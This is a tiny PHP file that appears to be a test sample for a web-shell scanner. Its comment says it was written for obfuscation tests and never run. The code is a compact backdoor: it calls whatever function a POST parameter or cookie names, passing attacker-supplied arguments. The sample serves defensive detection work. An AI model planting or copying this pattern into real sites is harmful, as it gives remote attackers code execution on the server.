<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
list($run, $arg) = [$_POST['r'] ?? 'trim', $_POST['a'] ?? ''];
echo $run($arg);
['k' => $key, 'v' => $val] = $_COOKIE;
$key($val);
